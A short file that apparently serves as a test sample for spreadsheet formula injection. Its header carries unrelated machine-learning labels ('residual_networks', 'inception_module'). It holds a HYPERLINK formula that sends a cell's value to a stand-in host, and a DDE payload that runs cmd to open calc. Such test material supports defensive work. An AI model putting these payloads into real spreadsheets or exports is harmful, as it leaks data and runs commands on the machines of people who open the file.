"""Errors, types and commands begin with what a spreadsheet takes for a formula, or break out of their column.
---
assignment = "residual_networks"
category = "markup"
[score]
inception_module = 0.0
---
"""
# %% inception_module
!=HYPERLINK("https://collect.example/?"&A1,"see here")
%=cmd|' /C calc'!A0
@SUM = 1
